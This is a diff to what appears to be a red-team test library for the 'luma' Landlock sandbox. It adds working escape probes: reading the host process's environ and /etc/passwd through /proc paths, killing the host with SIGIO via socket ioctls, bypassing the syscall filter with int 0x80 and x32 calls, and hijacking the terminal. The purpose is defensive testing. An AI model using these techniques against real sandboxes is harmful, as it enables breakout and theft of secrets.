@@ -28,15 +28,27 @@
 #include <dlfcn.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/sockios.h>
 #include <linux/userfaultfd.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdarg.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdint.h>
 #include <stdlib.h>
 #include <string.h>
+#include <pthread.h>
+#include <poll.h>
 #include <sys/ioctl.h>
+#include <termios.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
+#include <sys/msg.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
+#include <sys/stat.h>
+#include <sys/xattr.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
@@ -53,7 +65,19 @@ static pid_t host;          /* the process the library was loaded in */
 static char report[16384];
 static size_t used;
 
-__attribute__((constructor)) static void remember_host(void) { host = getpid(); }
+/* LUMA_ATTACK_LANDLOCK_ABI, read in the host: a child's environment is
+   emptied before it asks */
+static long landlock_abi_said = -1;
+/* LUMA_ATTACK_NO_USERNS: unshare(CLONE_NEWUSER) fails in the child, as
+   where a sysctl or a security module refuses user namespaces */
+static int no_user_namespace;
+
+__attribute__((constructor)) static void remember_host(void) {
+  host = getpid();
+  const char *abi = getenv("LUMA_ATTACK_LANDLOCK_ABI");
+  if (abi) landlock_abi_said = atol(abi);
+  no_user_namespace = getenv("LUMA_ATTACK_NO_USERNS") != NULL;
+}
 
 static void say(const char *fmt, ...) {
   va_list ap;
@@ -324,12 +348,306 @@ ssize_t write(int fd, const void *buf, size_t n) {
   return real(fd, buf, n);
 }
 
+/* ---------------------------------------------------------------- redteam
+   What Landlock does not see: it checks opening, making and removing files,
+   not a file's metadata. chmod, chown (to the same owner), utimensat and
+   user.* xattrs reach every file of the host's user by path, outside the
+   granted folders and in a project with no "io". */
+static void metadata(const char *root) {
+  char path[4096];
+  snprintf(path, sizeof path, "%s/luma.config.json", root);
+  outcome("chmod luma.config.json 0", chmod(path, 0));
+  outcome("chmod luma.config.json back 0777", chmod(path, 0777));
+  outcome("chown luma.config.json to its own owner", chown(path, geteuid(), getegid()));
+  struct timespec times[2] = { { 0, 0 }, { 0, 0 } };
+  outcome("utimensat luma.config.json to 1970", utimensat(AT_FDCWD, path, times, 0));
+  outcome("setxattr user.luma on luma.config.json", setxattr(path, "user.luma", "x", 1, 0));
+  removexattr(path, "user.luma");
+  /* outside every granted folder: the project's parent (/tmp) */
+  char parent[4096];
+  snprintf(parent, sizeof parent, "%s/..", root);
+  struct stat st;
+  /* a read of metadata that neither Landlock nor the filter can refuse
+     (Lua's loader and the C library stat their files): said, not tried */
+  say("stat the project's parent: %s (not refused: README, \"Limits, honestly\")\n",
+      stat(parent, &st) == 0 ? "answered" : "failed");
+  char buf[64];
+  outcome("getxattr outside the granted folders", getxattr(parent, "user.none", buf, sizeof buf) < 0 && errno == ENODATA ? 0 : -1);
+}
+
+/* Kernel objects that are not files, so not Landlock's: System V shared
+   memory, message queues and POSIX message queues are named per user (or
+   machine), outlive the process and are not counted in RLIMIT_AS while
+   unmapped. Each is removed again after the try (a test leaves nothing). */
+static void sysv(const char *root) {
+  (void)root;
+  int shm = shmget(IPC_PRIVATE, (size_t)64 << 20, IPC_CREAT | 0600);
+  outcome("shmget 64 MiB", shm);
+  if (shm >= 0) {
+    char *m = shmat(shm, NULL, 0);
+    outcome("shmat", m == (void *)-1 ? -1 : 0);
+    if (m != (void *)-1) {
+      memset(m, 1, (size_t)64 << 20);
+      shmdt(m);
+    }
+    shmctl(shm, IPC_RMID, NULL);
+  }
+  int q = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
+  outcome("msgget", q);
+  if (q >= 0) msgctl(q, IPC_RMID, NULL);
+  int sem = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
+  outcome("semget", sem);
+  if (sem >= 0) semctl(sem, 0, IPC_RMID);
+  long mq = syscall(SYS_mq_open, "luma_attack", O_RDWR | O_CREAT, 0600, NULL);
+  outcome("mq_open /luma_attack", mq);
+  if (mq >= 0) {
+    close((int)mq);
+    syscall(SYS_mq_unlink, "luma_attack");
+  }
+  outcome("shmat another's key (IPC key 0x4c554d41)", shmget(0x4c554d41, 0, 0));
+}
+
+/* Memory that RLIMIT_AS does not count: a memfd's pages, unmapped. */
+static void memfd(const char *root) {
+  (void)root;
+  struct rlimit as;
+  getrlimit(RLIMIT_AS, &as);
+  size_t size = as.rlim_cur == RLIM_INFINITY ? (size_t)256 << 20 : (size_t)as.rlim_cur;
+  say("RLIMIT_AS: %s\n", as.rlim_cur == RLIM_INFINITY ? "none" : "set");
+  /* with no RLIMIT_AS (under a sanitizer, whose shadow memory rules one
+     out: the allocator's limit is the only one there) there is none to
+     pass: the mapping is no attack then */
+  if (as.rlim_cur != RLIM_INFINITY) {
+    void *m = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    outcome("mmap RLIMIT_AS bytes", m == MAP_FAILED ? -1 : 0);
+    if (m != MAP_FAILED) munmap(m, size);
+  }
+  long fd = syscall(SYS_memfd_create, "luma", 0);
+  outcome("memfd_create", fd);
+  if (fd >= 0) {
+    long r = fallocate((int)fd, 0, 0, (off_t)size);
+    outcome("memfd fallocate RLIMIT_AS bytes", r);
+    close((int)fd);
+  }
+}
+
+/* The host's /proc entry by other roads than /proc/<host>: up from the
+   granted /proc/self, through its root link, the open_by_handle and
+   openat2 calls. */
+static void proc_walk(const char *root) {
+  (void)root;
+  char path[256];
+  snprintf(path, sizeof path, "/proc/self/../%d/environ", (int)host);
+  long fd = open(path, O_RDONLY | O_CLOEXEC);
+  outcome("open /proc/self/../host/environ", fd);
+  if (fd >= 0) close((int)fd);
+  snprintf(path, sizeof path, "/proc/self/root/proc/%d/cmdline", (int)host);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  outcome("open /proc/self/root/proc/host/cmdline", fd);
+  if (fd >= 0) close((int)fd);
+  fd = open("/proc/self/root/etc/passwd", O_RDONLY | O_CLOEXEC);
+  outcome("open /proc/self/root/etc/passwd", fd);
+  if (fd >= 0) close((int)fd);
+  fd = open("/proc/self/cwd/luma.config.json", O_WRONLY | O_CLOEXEC);
+  outcome("open /proc/self/cwd/luma.config.json for writing", fd);
+  if (fd >= 0) close((int)fd);
+  struct { unsigned long long flags, mode, resolve; } how = { O_RDONLY | O_CLOEXEC, 0, 0 };
+  snprintf(path, sizeof path, "/proc/%d/environ", (int)host);
+  outcome("openat2 /proc/host/environ", syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
+  char handle[128] = { 0 };
+  int mount_id;
+  outcome("name_to_handle_at /etc/passwd", syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", handle, &mount_id, 0));
+  snprintf(path, sizeof path, "/proc/%d/fd", (int)host);
+  char target[256];
+  snprintf(path, sizeof path, "/proc/%d/fd/1", (int)host);
+  outcome("readlink /proc/host/fd/1", readlink(path, target, sizeof target));
+  snprintf(path, sizeof path, "/proc/%d/exe", (int)host);
+  outcome("readlink /proc/host/exe", readlink(path, target, sizeof target));
+  static const char *const planted[] = { "/dev/shm/luma-attack-planted", "/tmp/luma-attack-planted",
+                                         "/var/tmp/luma-attack-planted" };
+  for (size_t i = 0; i < sizeof planted / sizeof planted[0]; i++) {
+    char what[96];
+    snprintf(what, sizeof what, "create %s", planted[i]);
+    fd = open(planted[i], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+    outcome(what, fd);
+    if (fd >= 0) {
+      close((int)fd);
+      unlink(planted[i]);
+    }
+  }
+  /* every descriptor the child holds past 2, and what it is */
+  for (int d = 3; d < 1024; d++) {
+    char link[64];
+    snprintf(link, sizeof link, "/proc/self/fd/%d", d);
+    ssize_t n = readlink(link, target, sizeof target - 1);
+    if (n > 0) say("fd %d: %.*s\n", d, (int)n, target);
+  }
+}
+
+/* SIGIO to the host, F_SETOWN's way but through the socket ioctls the
+   filter does not look at (FIOSETOWN, SIOCSPGRP), on the socket to the host
+   (the only one a child without the network has), with FIOASYNC: the host's
+   next request to this child raises SIGIO (default action: terminate) in
+   the host. Only Landlock's signal scoping (ABI 6, Linux 6.12) stands in
+   the way. */
+static void sigio(const char *root) {
+  (void)root;
+  int sock = -1;
+  for (int fd = 0; fd < 256 && sock < 0; fd++) {
+    struct stat st;
+    if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) sock = fd;
+  }
+  say("socket to the host: fd %d\n", sock);
+  if (sock < 0) return;
+  int owner = (int)host;
+  outcome("ioctl FIOSETOWN host", ioctl(sock, FIOSETOWN, &owner));
+  outcome("ioctl SIOCSPGRP host", ioctl(sock, SIOCSPGRP, &owner));
+  int on = 1;
+  outcome("ioctl FIOASYNC on", ioctl(sock, FIOASYNC, &on));
+  int got = 0;
+  ioctl(sock, FIOGETOWN, &got);
+  say("owner now: %s\n", got == (int)host ? "the host" : "not the host");
+  on = 0;
+  ioctl(sock, FIOASYNC, &on);
+}
+
+/* The signal itself. The child waits for requests in read(), so data coming
+   in raises none; room coming free does, once a send found none. So: a
+   frame header for 1 MiB, and bytes until a send finds the socket full. The
+   host's next read that makes room (or its close, which frees what it did
+   not read) sends it SIGIO, whose default action ends it. The call fails
+   (a malformed or late reply) when the host lives. */
+static void sigio_kill(const char *root) {
+  (void)root;
+  int sock = -1;
+  for (int fd = 0; fd < 256 && sock < 0; fd++) {
+    struct stat st;
+    if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) sock = fd;
+  }
+  if (sock < 0) return;
+  int owner = (int)host, on = 1;
+  if (ioctl(sock, FIOSETOWN, &owner) != 0 || ioctl(sock, FIOASYNC, &on) != 0) {
+    outcome("ioctl FIOSETOWN host, FIOASYNC", -1);
+    return;
+  }
+  /* a small send buffer, so that a send finds it full at once, again and
+     again, however fast the host drains it */
+  int small = 4096;
+  setsockopt(sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
+  int flags = fcntl(sock, F_GETFL);
+  fcntl(sock, F_SETFL, flags | O_NONBLOCK);
+  uint32_t len = 1u << 20;
+  size_t sent = 0, full = 0;
+  if (write(sock, &len, sizeof len) == (ssize_t)sizeof len) sent += sizeof len;
+  static char zeros[65536];
+  ssize_t k = 0;
+  while (sent < len) {
+    size_t n = len - sent < sizeof zeros ? len - sent : sizeof zeros;
+    k = write(sock, zeros, n);
+    if (k > 0) { sent += (size_t)k; continue; }
+    if (k < 0 && errno != EAGAIN) break;
+    full++;
+    struct pollfd pf = { sock, POLLOUT, 0 };
+    if (poll(&pf, 1, 1000) <= 0) break;
+  }
+  fcntl(sock, F_SETFL, flags);
+  say("sent to the host: %zu bytes, the socket full %zu times\n", sent, full);
+}
+
+/* 32-bit system calls through int $0x80 from a thread (the filter's
+   default for another architecture kills the thread), and x32's numbers. */
+static long int80_result;
+static long x32_result;
+static void *int80_thread(void *arg) {
+  (void)arg;
+  long r;
+#if defined(__x86_64__)
+  /* i386 kill (37) of the host with signal 0: a probe, not a kill */
+  __asm__ volatile("int $0x80" : "=a"(r) : "a"(37L), "b"((long)host), "c"(0L) : "memory");
+#else
+  r = -ENOSYS;
+#endif
+  int80_result = r;
+  return NULL;
+}
+static void *x32_thread(void *arg) {
+  (void)arg;
+#if defined(__x86_64__)
+  x32_result = syscall(0x40000000L | SYS_kill, host, 0);
+  if (x32_result < 0) x32_result = -errno;
+#endif
+  return NULL;
+}
+static void compat(const char *root) {
+  (void)root;
+  pthread_t t;
+  int80_result = 1;
+  x32_result = 1;
+  /* a kernel without IA32 emulation answers int $0x80 with SIGSEGV, which
+     ends the whole process: tried only where 32-bit code can run */
+  if (access("/proc/sys/abi/vsyscall32", F_OK) == 0 && getenv("LUMA_ATTACK_INT80")) {
+    if (pthread_create(&t, NULL, int80_thread, NULL) == 0) pthread_join(t, NULL);
+    if (int80_result == 1) say("int 0x80 kill host 0: refused (thread killed)\n");
+    else if (int80_result < 0) say("int 0x80 kill host 0: refused (%s)\n", strerrorname_np((int)-int80_result));
+    else say("int 0x80 kill host 0: SUCCEEDED (%ld)\n", int80_result);
+  }
+  outcome("kill host 0 (native, for comparison)", kill(host, 0));
+  if (pthread_create(&t, NULL, x32_thread, NULL) == 0) pthread_join(t, NULL);
+  if (x32_result == 1) say("x32 kill host 0: refused (thread killed)\n");
+  else if (x32_result < 0) say("x32 kill host 0: refused (%s)\n", strerrorname_np((int)-x32_result));
+  else say("x32 kill host 0: SUCCEEDED (%ld)\n", x32_result);
+}
+
+/* What a root host's child keeps without a user namespace: capabilities
+   over every file by path (Landlock does not see chown, chmod), and over its
+   own limits. <project>.outside is a file of nobody's, mode 600, outside
+   every granted folder. */
+static void root_caps(const char *root) {
+  char path[4096];
+  snprintf(path, sizeof path, "%s.outside", root);
+  outcome("chown another user's file outside the granted folders", chown(path, geteuid(), getegid()));
+  outcome("chmod it 0666", chmod(path, 0666));
+  struct rlimit as;
+  getrlimit(RLIMIT_AS, &as);
+  say("RLIMIT_AS: %s\n", as.rlim_cur == RLIM_INFINITY ? "none" : "set");
+  struct rlimit none = { RLIM_INFINITY, RLIM_INFINITY };
+  long r = as.rlim_cur == RLIM_INFINITY ? -1 : syscall(SYS_prlimit64, 0, RLIMIT_AS, &none, NULL);
+  if (as.rlim_cur == RLIM_INFINITY) errno = ENOENT;
+  outcome("raise RLIMIT_AS to none", r);
+}
+
+/* The host's terminal, when its stderr is one and came across to the child
+   (a child is in the host's session): a process group of the child's own
+   made the terminal's foreground one, and TOSTOP set, so that the host's
+   next write to the terminal stops it (SIGTTOU, from the terminal, which no
+   filter or Landlock scope sees). */
+static void terminal(const char *root) {
+  (void)root;
+  int tty = -1;
+  for (int fd = 0; fd <= 2 && tty < 0; fd++)
+    if (isatty(fd)) tty = fd;
+  say("terminal: fd %d\n", tty);
+  if (tty < 0) return;
+  outcome("setpgid(0, 0)", setpgid(0, 0));
+  pid_t me = getpgrp();
+  signal(SIGTTOU, SIG_IGN);
+  outcome("ioctl TIOCSPGRP to the child's group", ioctl(tty, TIOCSPGRP, &me));
+  struct termios t;
+  if (tcgetattr(tty, &t) == 0) {
+    t.c_lflag |= TOSTOP;
+    outcome("tcsetattr TOSTOP", tcsetattr(tty, TCSANOW, &t));
+  }
+}
+
 static const struct { const char *name; void (*run)(const char *root); } attacks[] = {
   { "mem", host_memory }, { "config", config }, { "setown", owner_signal }, { "signals", signals },
   { "limits", host_limits }, { "stdout", host_stdout }, { "mount", mounts }, { "tiocsti", tiocsti },
   { "namespaces", namespaces }, { "userfaultfd", userfault }, { "environ", environment },
   { "fds", descriptors }, { "pid", pid }, { "socket", abstract_socket }, { "caps", capabilities },
   { "forge_empty", forge_empty }, { "forge_cut", forge_cut },
+  { "metadata", metadata }, { "sysv", sysv }, { "memfd", memfd }, { "compat", compat }, { "proc", proc_walk },
+  { "sigio", sigio }, { "sigiokill", sigio_kill },
+  { "rootcaps", root_caps }, { "terminal", terminal },
 };
 
 /* The module source that hands the report back as a long string. */
@@ -367,4 +685,32 @@ FILE *fopen64(const char *path, const char *mode) {
   if (f) return f;
   FILE *(*real)(const char *, const char *) = (FILE * (*)(const char *, const char *)) dlsym(RTLD_NEXT, "fopen64");
   return real(path, mode);
+}
+
+/* LUMA_ATTACK_LANDLOCK_ABI=N: the host's kernel says Landlock's ABI is N
+   (at most the real one), as an older kernel would: Debian 12's Linux 6.1
+   has ABI 2, Ubuntu 24.04's 6.8 ABI 4; signal scoping needs 6. The host's
+   library asks through syscall(), which this one stands in for. */
+long syscall(long nr, ...) {
+  va_list ap;
+  va_start(ap, nr);
+  long a[6];
+  for (int i = 0; i < 6; i++) a[i] = va_arg(ap, long);
+  va_end(ap);
+  long (*real)(long, ...) = (long (*)(long, ...))dlsym(RTLD_NEXT, "syscall");
+  long r = real(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
+#ifdef SYS_landlock_create_ruleset
+  if (nr == SYS_landlock_create_ruleset && a[0] == 0 && a[2] == 1 && landlock_abi_said >= 0 && r > landlock_abi_said)
+    r = landlock_abi_said;
+#endif
+  return r;
+}
+
+int unshare(int flags) {
+  if (no_user_namespace && (flags & CLONE_NEWUSER)) {
+    errno = EPERM;
+    return -1;
+  }
+  int (*real)(int) = (int (*)(int))dlsym(RTLD_NEXT, "unshare");
+  return real(flags);
 }
